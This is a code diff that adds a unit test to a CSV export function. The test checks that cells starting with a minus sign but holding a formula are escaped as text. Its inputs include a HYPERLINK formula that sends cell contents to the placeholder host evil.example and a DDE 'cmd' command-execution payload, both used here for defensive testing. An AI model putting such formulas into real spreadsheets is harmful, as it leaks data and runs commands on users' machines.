@@ -9,4 +9,10 @@ describe("toCsv", () => {
   it("keeps spreadsheet formulas as text but leaves negative numbers alone", () => {
     expect(toCsv(["v"], [["=HYPERLINK(1)"], ["-1.5"], ["@x"]])).toBe("v\r\n'=HYPERLINK(1)\r\n-1.5\r\n'@x\r\n");
   });
+
+  it("keeps a formula that starts like a negative number as text", () => {
+    expect(toCsv(["v"], [['-1+HYPERLINK("https://evil.example/?"&D2)'], ["-2+3+cmd|' /C calc'!A0"], ["-7"]])).toBe(
+      "v\r\n\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&D2)\"\r\n'-2+3+cmd|' /C calc'!A0\r\n-7\r\n",
+    );
+  });
 });
